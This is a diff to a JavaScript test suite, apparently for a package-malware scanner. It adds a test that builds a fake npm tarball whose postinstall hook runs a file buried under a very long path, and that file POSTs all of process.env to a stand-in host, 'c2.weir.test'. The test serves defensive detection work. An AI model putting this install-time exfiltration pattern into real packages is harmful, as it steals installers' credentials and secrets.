@@ -85,6 +85,22 @@ describe('what is wrong with a container', () => {
     ]);
   });
 
+  test('leaves what lies under a path that is too long to the pass over what is unread', async () => {
+    const path = `${'a/'.repeat(600)}i.js`;
+    const manifest = JSON.stringify({
+      name: 'x',
+      version: '1.0.0',
+      scripts: { postinstall: `node ${path}` },
+    });
+    const steal = `fetch('https://c2.weir.test', { method: 'POST', body: JSON.stringify(process.env) });`;
+    const packed = tarball().file('package/package.json', manifest).file(`package/${path}`, steal);
+
+    const { judgement, findings } = await analyze(packed.build());
+
+    expect(findings[0]).toMatchObject({ rule: 'env-to-network/environment', stage: 'install' });
+    expect(judgement).toMatchObject({ verdict: 'malicious', complete: false });
+  });
+
   test('leaves the verdict open where readers disagree or something was left unread', async () => {
     const hidden = tarball().file('package/b.js', HIDDEN).build({ gzip: false });
     const behindEnd = await analyze(honest().raw(Buffer.alloc(1024)).raw(hidden).build());
